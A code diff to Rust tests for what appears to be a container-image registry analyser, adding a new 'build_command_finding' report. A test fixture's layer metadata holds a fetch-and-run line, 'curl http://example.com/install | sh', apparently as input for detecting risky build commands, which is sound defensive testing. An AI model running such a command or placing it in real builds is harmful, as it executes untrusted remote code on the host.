@@ -1000,7 +1000,12 @@ async fn synced_registry() -> (Emulator, TestDatabase) {
             };
             world.add_artifact(repository, spec).unwrap()
         };
-        let step = |digits: &str| json!({"digest": digest_of(digits), "size": 1000});
+        let step = |digits: &str| {
+            json!({
+                "digest": digest_of(digits), "size": 1000,
+                "created_by": "RUN /bin/sh -c curl http://example.com/install | sh # buildkit",
+            })
+        };
         let base = add(world, os, &digest_of("d0"), &["12"], &[step("b0")]);
         // Without a tag.
         let child = digest_of("d1");
@@ -1063,6 +1068,8 @@ async fn the_list_of_reports_needs_no_database() {
         "base_image",
         "unknown_base",
         "built_on",
+        "build_command_finding",
+        "artifact_finding",
         "tag_move",
         "change",
         "growth_by_day",
